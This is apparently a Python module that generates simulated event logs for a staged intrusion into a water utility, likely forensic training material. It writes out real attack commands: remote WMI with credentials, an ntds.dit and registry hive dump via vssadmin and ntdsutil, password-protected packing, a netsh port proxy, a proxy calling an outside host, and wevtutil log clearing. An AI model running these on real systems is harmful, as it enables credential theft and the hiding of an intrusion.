"""What the intruder does at the first customer, a water utility: the historian, then the domain controller."""

from __future__ import annotations

from story import fields, programs
from story.cast import HOME_ROUTER, KUMO_AT_AOBA, SECRET, Cast
from story.clock import at
from story.machine import SYSTEM, Session

JUMP, HISTORIAN = "10.10.1.20", "10.20.1.15"
COPY = "C:\\Windows\\Temp\\pro\\Active Directory\\ntds.dit"


def tell(cast: Cast) -> None:
    """The first customer's part of the story."""
    session = arrive(cast)
    discover(session)
    ask_the_controller(cast, session)
    remote_shell(cast)
    take_the_directory(cast)
    pack(cast)
    proxy(cast)
    drawings_are_read(cast)
    clean(cast)


def arrive(cast: Cast) -> Session:
    """Step 8, seen from the customer: the provider's account arrives from the provider's jump host, as it should."""
    return cast.historian.logon("11 03:12:02", KUMO_AT_AOBA, 10, JUMP, admin=True)


def discover(session: Session) -> None:
    """Step 9: all the questions of one who has just arrived."""
    shell = session.process("11 03:20:02", programs.CMD, "cmd.exe")
    disks = "wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename"
    asked = (
        ("03:20:20", programs.WHOAMI, "whoami"),
        ("03:20:41", programs.IPCONFIG, "ipconfig /all"),
        ("03:21:10", programs.NETSTAT, "netstat -ano"),
        ("03:22:03", programs.TASKLIST, "tasklist /v"),
        ("03:23:15", programs.SYSTEMINFO, "systeminfo"),
        ("03:24:44", programs.QUSER, "quser"),
        ("03:25:20", programs.NET, "net localgroup administrators"),
        ("03:26:02", programs.WMIC, disks),
        ("03:27:31", programs.CURL, "curl www.ip-api.com"),
        ("03:28:09", programs.NETSH, "netsh interface portproxy show all"),
        ("03:29:50", programs.REG, "reg query hkcu\\software\\SimonTatham\\putty\\sessions"),
        ("03:30:12", programs.CMD, "cmd.exe /c dir \\\\127.0.0.1\\C$ /od"),
    )
    for time, program, line in asked:
        shell.start(f"11 {time}", program, line)


def ask_the_controller(cast: Cast, session: Session) -> None:
    """Step 9, goes on: remote WMI to the domain controller; Defender sees it on the historian."""
    shell = session.process("11 04:01:00", programs.CMD, "cmd.exe")
    remote = f"wmic /node:10.20.1.10 /user:{KUMO_AT_AOBA} /password:{SECRET} process call create"
    questions = (
        ("04:02", programs.NLTEST, "nltest /DOMAIN_TRUSTS"),
        ("04:04", programs.NET, 'net group "Domain Admins" /dom'),
        ("04:06", programs.DNSCMD, "dnscmd . /enumrecords /zone aoba-water.example.com"),
    )
    for minute, program, line in questions:
        command = f"cmd /c {line} >>C:\\Users\\Public\\t.tmp"
        quoted = command.replace('"', '\\"')
        caller = shell.start(f"11 {minute}:05", programs.WMIC, f'{remote} "{quoted}"')
        session.credentials(f"11 {minute}:06", KUMO_AT_AOBA, "AOBA-DC01", caller)
        there = cast.dc.logon(
            f"11 {minute}:07", KUMO_AT_AOBA, 3, HISTORIAN, workstation="AOBA-HIST01", admin=True
        )
        wrapped = there.process(
            f"11 {minute}:08", programs.CMD, command, parent=cast.dc.wmi(f"11 {minute}:07")
        )
        wrapped.start(f"11 {minute}:08", program, line)
        there.share(f"11 {minute}:30", 5145, "C$", "C:\\", "Users\\Public\\t.tmp")
        there.end(f"11 {minute}:40")
    data = fields.malware(
        "Behavior:Win32/WmicRemote.A",
        "behavior:_process: wmic.exe",
        programs.WMIC.path,
        str(KUMO_AT_AOBA),
        at("11 04:02:08"),
    )
    channel, provider = "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender"
    cast.historian.log(at("11 04:02:08"), channel, provider, 1116, data, sid="S-1-5-18")


def remote_shell(cast: Cast) -> None:
    """Step 10: a half-interactive shell over WMI on the domain controller, and what the logs say of logons."""
    session = cast.dc.logon("12 03:39:58", KUMO_AT_AOBA, 3, HISTORIAN, workstation="AOBA-HIST01", admin=True)
    host = cast.dc.wmi("12 03:39:59")
    commands = (
        ("03:40:12", programs.WHOAMI, "whoami"),
        (
            "03:42:05",
            programs.WEVTUTIL,
            "wevtutil qe security /rd:true /f:text /q:*[System[(EventID=4624)]] /c:40",
        ),
        ("03:48:31", programs.LDIFDE, "ldifde.exe -f c:\\windows\\temp\\cisco_up.txt -p subtree"),
    )
    for time, program, line in commands:
        stamp = f"{at(f'12 {time}').timestamp():.6f}"
        share = f"\\\\127.0.0.1\\ADMIN$\\__{stamp}"
        shell = session.process(
            f"12 {time}", programs.CMD, f"cmd.exe /Q /c {line} 1> {share} 2>&1", parent=host
        )
        shell.writes(f"12 {time}", f"C:\\Windows\\__{stamp}")
        shell.start(f"12 {time}", program, line)
    session.script("12 03:51:20", "Get-EventLog security -instanceid 4624 -newest 200 | Format-List")
    session.end("12 03:55:00")


def take_the_directory(cast: Cast) -> None:
    """Step 10, goes on: a shadow copy, install media, and what the database engine writes about it by itself."""
    session = cast.dc.logon("12 04:00:40", KUMO_AT_AOBA, 3, HISTORIAN, workstation="AOBA-HIST01", admin=True)
    host = cast.dc.wmi("12 04:00:41")
    line = "vssadmin create shadow /for=C:"
    shell = session.process(
        "12 04:01:10", programs.CMD, f"cmd.exe /c {line} > C:\\Windows\\Temp\\v.tmp 2>&1", parent=host
    )
    shell.start("12 04:01:10", programs.VSSADMIN, line)
    words = 'ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\pro" q q'
    shell = session.process(
        "12 04:05:00", programs.CMD, f"cmd.exe /c mkdir C:\\Windows\\Temp\\pro & {words}", parent=host
    )
    copier = shell.start("12 04:05:01", programs.NTDSUTIL, words)
    shadow = "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy7\\Windows\\NTDS\\ntds.dit"
    snapshot = "C:\\$SNAP_202611120405_VOLUMEC$\\Windows\\NTDS\\ntds.dit"
    pid = str(copier.pid)
    cast.dc.esent("12 04:05:06", 216, ["lsass", "652", "", "C:\\Windows\\NTDS\\ntds.dit", shadow])
    cast.dc.esent("12 04:05:09", 326, ["ntdsutil", pid, "", "1", snapshot, "0", "[1] 0.000"])
    cast.dc.esent("12 04:05:10", 325, ["ntdsutil", pid, "", "2", COPY, "0", "[1] 0.000"])
    copier.writes("12 04:05:10", COPY)
    cast.dc.esent("12 04:05:41", 327, ["ntdsutil", pid, "", "2", COPY, "0", "[1] 0.000"])
    cast.dc.esent("12 04:05:42", 327, ["ntdsutil", pid, "", "1", snapshot, "0", "[1] 0.000"])
    for second, name in (
        (42, "Active Directory\\ntds.jfm"),
        (43, "registry\\SYSTEM"),
        (44, "registry\\SECURITY"),
    ):
        copier.writes(f"12 04:05:{second}", f"C:\\Windows\\Temp\\pro\\{name}")
    session.end("12 04:09:00")


def pack(cast: Cast) -> None:
    """Step 11: the directory is packed with a password and read over the network."""
    session = cast.dc.logon("12 04:19:40", KUMO_AT_AOBA, 3, HISTORIAN, workstation="AOBA-HIST01", admin=True)
    line = f"7z.exe a -p{SECRET} C:\\Windows\\Temp\\k.7z C:\\Windows\\Temp\\pro"
    shell = session.process(
        "12 04:20:15", programs.CMD, f"cmd.exe /c {line}", parent=cast.dc.wmi("12 04:20:14")
    )
    shell.start("12 04:20:15", programs.SEVENZIP, line).writes("12 04:20:19", "C:\\Windows\\Temp\\k.7z")
    session.share("12 04:26:40", 5145, "C$", "C:\\", "Windows\\Temp\\k.7z")
    session.end("12 04:27:30")


def proxy(cast: Cast) -> None:
    """Step 11, goes on: the historian becomes a door, and a proxy under a published name calls out."""
    session = cast.historian.logon("12 04:29:10", KUMO_AT_AOBA, 10, JUMP, admin=True)
    shell = session.process("12 04:30:00", programs.CMD, "cmd.exe")
    line = (
        "netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=9999 "
        "connectaddress=10.20.1.10 connectport=8443 protocol=tcp"
    )
    netsh = shell.start("12 04:31:12", programs.NETSH, line)
    key = "HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/9999"
    netsh.sets("12 04:31:12", key, "10.20.1.10/8443")
    session.process("12 04:33:00", programs.RDPCLIP, "rdpclip").writes("12 04:33:20", programs.PROXY.path)
    program = shell.start("12 04:34:02", programs.PROXY, "SMSvcService.exe")
    program.connects("12 04:34:03", HOME_ROUTER, 8443)
    program.connects("13 04:34:03", HOME_ROUTER, 8443)


def drawings_are_read(cast: Cast) -> None:
    """Step 12, seen from the customer: the jump host reads every drawing."""
    session = cast.historian.logon(
        "13 01:15:07", KUMO_AT_AOBA, 3, JUMP, workstation="KUMO-JUMP01", admin=True
    )
    session.share("13 01:15:08", 5140, "D$", "D:\\")
    sheets = (
        "Pump-A\\layout.dwg",
        "Pump-B\\layout.dwg",
        "Intake\\relay-settings.pdf",
        "Intake\\network.vsdx",
    )
    for second, sheet in enumerate(sheets):
        session.share(f"13 01:16:4{second + 1}", 5145, "D$", "D:\\", f"Drawings\\{sheet}")
    session.end("13 01:31:00")


def clean(cast: Cast) -> None:
    """Step 15: the door is closed, folders and logs are removed. Collected copies of the logs survive."""
    cast.historian.service("13 18:05:02", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", SYSTEM)
    system = cast.historian.logon("13 18:05:03", SYSTEM, 5)
    service = system.process("13 18:05:03", programs.PSEXESVC, "C:\\Windows\\PSEXESVC.exe")
    line = "netsh interface portproxy delete v4tov4 listenaddress=0.0.0.0 listenport=9999"
    service.start("13 18:05:04", programs.NETSH, line)
    session = cast.dc.logon("13 18:11:20", KUMO_AT_AOBA, 3, HISTORIAN, workstation="AOBA-HIST01", admin=True)
    host = cast.dc.wmi("13 18:11:21")
    session.process("13 18:12:00", programs.CMD, "cmd.exe /c rd /S /Q C:\\Windows\\Temp\\pro", parent=host)
    shell = session.process("13 18:13:30", programs.CMD, "cmd.exe /c wevtutil cl Security", parent=host)
    shell.start("13 18:13:31", programs.WEVTUTIL, "wevtutil cl Security")
    cast.dc.cleared("13 18:13:32", "Security", session)
    log = "Microsoft-Windows-PowerShell/Operational"
    shell = session.process("13 18:14:10", programs.CMD, f"cmd.exe /c wevtutil cl {log}", parent=host)
    shell.start("13 18:14:11", programs.WEVTUTIL, f"wevtutil cl {log}")
    cast.dc.cleared("13 18:14:12", log, session)
